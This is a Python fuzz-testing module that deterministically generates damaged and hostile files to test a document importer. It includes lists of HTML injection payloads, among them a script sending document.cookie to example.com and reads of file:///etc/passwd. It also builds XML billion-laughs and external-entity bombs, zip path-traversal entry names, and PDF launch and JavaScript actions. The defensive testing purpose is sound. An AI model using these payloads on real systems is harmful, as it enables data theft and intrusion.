# SPDX-License-Identifier: MIT
"""Bad files by number: the same number gives the same name and bytes, on every machine.

Most are damaged files of every kind that can be imported, the rest are built to do harm. None of
them holds text of a real report.
"""

from __future__ import annotations

import random
import struct
from collections.abc import Callable
from typing import NamedTuple

from fuzz.good_files import GOOD, LATIN, PAGE, RELATIONS, docx, html, mhtml, pdf, word_xml

TOKENS = (
    *(
        "一、",
        "（一）",
        "1.",
        "1、",
        "（1）",
        "[1]",
        "【1】",
        "〔1〕",
        "①",
        "——",
        "各位代表：",
        "*",
    ),
    *(
        "名词解释",
        "附件",
        "\t",
        "　",
        " ",
        "\n",
        "\r",
        "\\r\\n",
        "&nbsp;",
        "“",
        "”",
        "：",
        "。",
        "，",
    ),
    *("2024年", "5.2%", "?", "�", "\u200b", "\ufeff", "a", "的", "(", "<", ">", "|", "#", "`", "["),
    *("￼", "😀", "\u202e", "\x0c", "\x0b", "\u2028", "：：", "第一部分", "十", "一是", "P2，"),
)
"""Pieces by which the rules of structure are steered; long runs of one betray slow rules."""


class BadInput(NamedTuple):
    """A file to be imported: its name, its bytes, and what kind of badness it is."""

    name: str
    data: bytes
    kind: str


def bad_input(number: int) -> BadInput:
    """The bad file of this number."""
    chance = random.Random(number)
    kinds = tuple(_KINDS)
    kind = chance.choices(kinds, [_KINDS[k][0] for k in kinds])[0]
    suffix, data = _KINDS[kind][1](chance)
    return BadInput(f"{number}{suffix}", data, kind)


def _mutated(chance: random.Random) -> tuple[str, bytes]:
    suffix = chance.choice(tuple(GOOD))
    data = bytearray(GOOD[suffix])
    if suffix in {".txt", ".html", ".md"} and chance.random() < 0.2:
        data = bytearray(data.decode().encode(chance.choice(("utf-16", "utf-8-sig", "gb18030"))))
    for _ in range(chance.choice((1, 2, 4, 8, 30))):
        _mutate(data, chance)
    return suffix, bytes(data)


def _mutate(data: bytearray, chance: random.Random) -> None:
    at = chance.randrange(len(data) + 1)
    end = min(len(data), at + chance.choice((1, 2, 8, 64, 512)))
    match chance.randrange(7):
        case 0:
            data[at:end] = b""
        case 1:
            data[at:end] = chance.randbytes(end - at)
        case 2:
            data[at:at] = data[at:end] * chance.choice((1, 3, 50))
        case 3:
            data[at:at] = chance.choice(TOKENS).encode() * chance.choice((1, 2, 100))
        case 4:
            other = chance.choice(tuple(GOOD.values()))
            data[at:end] = other[at : at + 64]
        case 5 if at < len(data):
            data[at] ^= 1 << chance.randrange(8)
        case _:
            data[at:at] = struct.pack("<I", chance.choice((0, 1, 0x7FFFFFFF, 0xFFFFFFFF)))


def _truncated(chance: random.Random) -> tuple[str, bytes]:
    suffix = chance.choice(tuple(GOOD))
    data = GOOD[suffix]
    return suffix, data[: chance.randrange(len(data))]


def _random_bytes(chance: random.Random) -> tuple[str, bytes]:
    suffix = chance.choice((*GOOD, ".doc", ".wps", ".rtf", ".htm", ".markdown", ".mht"))
    head = chance.choice((b"", b"", b"PK\x03\x04", b"%PDF-1.7\n", b"\xff\xfe", b"<html>"))
    return suffix, head + chance.randbytes(chance.choice((0, 1, 10, 1000, 20000)))


def _tokens(chance: random.Random) -> tuple[str, bytes]:
    """The pieces of reports in any order: every rule meets what it does not expect."""
    text = "".join(chance.choice(TOKENS) for _ in range(chance.choice((3, 30, 300, 2000))))
    return chance.choice((".txt", ".md")), text.encode("utf-8", "replace")


_HOSTILE = (
    "<script>fetch('http://example.com/'+document.cookie)</script>",
    "<script src='http://example.com/a.js'></script>",
    "<style>@import 'http://example.com/a.css'; @font-face{{src:url(http://example.com/f)}}</style>",
    "<iframe src='file:///etc/passwd'>{0}</iframe>",
    "<base href='http://example.com/'>",
    "<meta http-equiv='refresh' content='0;url=http://example.com/'>",
    "<img src='http://example.com/a.png' onerror='alert(1)'>",
    "<link rel='stylesheet' href='http://example.com/a.css'>",
    "<svg><image href='http://example.com/a.png'/><script>1</script></svg>",
    "<object data='file:///etc/passwd'></object>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<table><tr><td>{0}<table><tr>{0}</table>",
    "<div><p><b>{0}<i></b></p></div></div>",
    "<![CDATA[{0}]]><!-- {0} --",
    "<textarea>{0}<select><option>{0}",
    "&#x110000;&#0;&nbsp;&bogus;&#55296;",
    "<p style='display:none'>{0}</p>",
    "<a href='javascript:alert(1)'>{0}</a>",
    "<frameset><frame src='http://example.com/'></frameset>",
    "<td rowspan='99999999' colspan='99999999'>{0}</td>",
    "<plaintext>{0}",
)


def _hostile_html(chance: random.Random) -> tuple[str, bytes]:
    lines = PAGE.splitlines()
    body = "".join(
        chance.choice(_HOSTILE).format(chance.choice(lines))
        if chance.random() < 0.5
        else f"<p>{chance.choice(lines)}</p>"
        for _ in range(chance.choice((5, 50, 300)))
    )
    page = html(body, chance.choice(_HOSTILE).format(""))
    return (".mhtml", mhtml(page)) if chance.random() < 0.2 else (".html", page)


_PARTS = (
    *("../../../../tmp/report-reader-evil", "/etc/report-reader-evil", "word/../../evil.xml"),
    *("C:\\Windows\\evil.txt", "word/styles.xml", "word/numbering.xml", "word/footnotes.xml"),
    *("word/_rels/document.xml.rels", "word/comments.xml", "docProps/core.xml", "nul", ""),
)


def laughs(external: bool = False, depth: int = 12) -> str:
    """A document type whose entities grow a thousand million times, or read other files."""
    if external:
        return '<!DOCTYPE w [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    steps = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, depth))
    return f'<!DOCTYPE w [<!ENTITY e0 "哈哈哈哈">{steps}]>'


def _hostile_docx(chance: random.Random) -> tuple[str, bytes]:
    match chance.randrange(6):
        case 0:
            entity = "e" if (external := chance.random() < 0.5) else "e11"
            xml = word_xml(before=laughs(external)).replace("各位代表", f"&{entity};")
            return ".docx", docx(xml)
        case 1:
            return ".docx", docx(
                extra={chance.choice(_PARTS): chance.randbytes(100) for _ in "123"}
            )
        case 2:
            xml = bytearray(word_xml().encode())
            for _ in range(chance.choice((1, 5, 20))):
                _mutate(xml, chance)
            return ".docx", docx(bytes(xml))
        case 3:
            tag = chance.choice(
                ("w:tbl", "w:tr", "w:tc", "w:p", "w:r", "w:sdt", "w:ins", "w:hyperlink")
            )
            many = chance.choice((10, 1000))
            deep = f"<{tag}>" * many + "深" + f"</{tag}>" * many
            return ".docx", docx(word_xml().replace("<w:body>", f"<w:body>{deep}"))
        case 4:
            data = bytearray(docx())
            for at in range(len(data) - 8):
                if data[at : at + 4] in (b"PK\x03\x04", b"PK\x01\x02"):
                    data[at + (6 if data[at + 2] == 3 else 8)] |= chance.choice((1, 8, 64))
            return ".docx", bytes(data)
        case _:
            rels = RELATIONS.replace(
                "word/document.xml", 'http://example.com/a" TargetMode="External'
            )
            return ".docx", docx(extra={"word/_rels/document.xml.rels": rels.encode()})


def _hostile_pdf(chance: random.Random) -> tuple[str, bytes]:
    data = pdf(
        [chance.choice(LATIN) for _ in range(20)],
        chance.choice(
            (
                "/OpenAction << /S /URI /URI (http://example.com/) >>",
                "/OpenAction << /S /Launch /F (/bin/true) >>",
                "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
                "/Pages 1 0 R",
                "",
            )
        ),
        chance.choice((1, 3, 50)),
        chance.choice(
            ("", "/Encrypt << /Filter /Standard /V 2 /R 3 /O (a) /U (b) /P -4 >>", "/Prev 0")
        ),
    )
    swaps = (b"/Kids [6 0 R", b"/Kids [2 0 R"), (b"/Count 1", b"/Count 999999999"), (b"0 R", b"9 R")
    for old, new in swaps:
        if chance.random() < 0.3:
            data = data.replace(old, new)
    if chance.random() < 0.5:
        damaged = bytearray(data)
        _mutate(damaged, chance)
        data = bytes(damaged)
    return ".pdf", data


_KINDS: dict[str, tuple[int, Callable[[random.Random], tuple[str, bytes]]]] = {
    "mutated": (40, _mutated),
    "truncated": (12, _truncated),
    "random bytes": (8, _random_bytes),
    "tokens": (12, _tokens),
    "hostile html": (12, _hostile_html),
    "hostile docx": (10, _hostile_docx),
    "hostile pdf": (6, _hostile_pdf),
}
